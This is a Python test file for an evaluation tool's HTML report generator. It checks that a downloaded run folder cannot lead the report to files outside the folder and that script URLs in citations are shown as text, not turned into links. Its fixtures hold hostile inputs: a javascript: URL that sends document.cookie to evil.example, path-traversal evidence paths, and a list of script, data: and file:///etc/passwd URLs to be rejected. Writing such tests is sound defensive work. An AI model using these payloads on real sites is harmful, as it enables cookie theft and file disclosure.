"""A run folder someone else made (a downloaded CI artifact) is read, not trusted: no path out, no script link."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from copilot_eval.cli.app import app
from copilot_eval.reports.html_page import link, safe_href
from copilot_eval.reports.run_folder import read_run_folder
from tests.reports.report_fixtures import build_run_folder

SECRET = "TOP-SECRET-FROM-OUTSIDE-THE-FOLDER"


def _hostile_folder(tmp_path: Path) -> Path:
    """The fixture's run folder, its run.json pointing two cases' evidence outside it, a citation a script URL."""
    folder = tmp_path / "artifact"
    build_run_folder(folder)
    outside = tmp_path / "home" / "stolen.json"
    outside.parent.mkdir()
    outside.write_text(json.dumps({"success": True, "prompt": SECRET, "derived": {"final_response": SECRET}}))
    data = json.loads((folder / "run.json").read_text())
    by_case = {(r["conversationNumber"], r.get("repeatIndex", 0)): r for r in data["results"]}
    by_case[(1, 0)]["evidencePath"] = str(outside)  # absolute, elsewhere
    by_case[(2, 0)]["evidencePath"] = "../home/stolen.json"
    (folder / "run.json").write_text(json.dumps(data))
    studio = folder / by_case[(4, 0)]["evidencePath"]
    evidence = json.loads(studio.read_text())
    evidence["citations"] = [
        {"title": "click me", "url": "javascript:fetch('https://evil.example/?'+document.cookie)"},
        {"title": "tabbed", "url": "java\tscript:alert(1)"},
        {"title": "real", "url": "https://example.invalid/terms"},
    ]
    studio.write_text(json.dumps(evidence))
    return folder


def test_report_follows_no_evidence_path_out_of_the_folder_and_says_so(tmp_path: Path) -> None:
    folder = _hostile_folder(tmp_path)
    run_folder = read_run_folder(folder)
    stored = [r.evidence_path for r in run_folder.run.results or [] if "stolen" in (r.evidence_path or "")]
    assert len(stored) == 2 and all(run_folder.evidence_file(path) is None for path in stored)
    assert all("leads outside the folder" in (run_folder.evidence_refusal(path) or "") for path in stored)
    done = CliRunner().invoke(app, ["report", str(folder), "--html", str(tmp_path / "report.html")])
    assert done.exit_code in (0, 1), done.output
    page = (tmp_path / "report.html").read_text()
    assert SECRET not in page
    assert "leads outside the folder" in page and "not followed" in page
    assert "stolen.json" in page  # the refused path is named, as text


def test_a_citations_script_url_is_text_not_a_link(tmp_path: Path) -> None:
    folder = _hostile_folder(tmp_path)
    done = CliRunner().invoke(app, ["report", str(folder), "--html", str(tmp_path / "report.html")])
    assert done.exit_code in (0, 1), done.output
    page = (tmp_path / "report.html").read_text()
    assert 'href="https://example.invalid/terms"' in page
    assert "javascript:fetch(" in page  # shown, readable
    assert 'href="javascript' not in page and 'href="java\tscript' not in page and 'href="java' not in page


def test_only_http_https_and_mailto_links_are_made() -> None:
    for url in ("https://a.example/x", "http://a.example", "mailto:someone@example.invalid", " HTTPS://a.example"):
        assert safe_href(url) is not None, url
    for url in (
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "evidence/case1.json",  # relative: only where a caller allows it
        None,
        42,
    ):
        assert safe_href(url) is None, url
    assert safe_href("evidence/case1.json", relative=True) == "evidence/case1.json"
    assert safe_href("/runs/1/report.html", relative=True) == "/runs/1/report.html"
    for url in ("//evil.example", "\\\\evil.example", "/\\evil.example", "javascript:x"):
        assert safe_href(url, relative=True) is None, url
    assert link('https://a.example/?q="x"&y', rel="noreferrer") == (
        '<a href="https://a.example/?q=&quot;x&quot;&amp;y" rel="noreferrer">https://a.example/?q=&quot;x&quot;&amp;y</a>'
    )
    assert link("javascript:alert('<b>')") == "javascript:alert(&#x27;&lt;b&gt;&#x27;)"
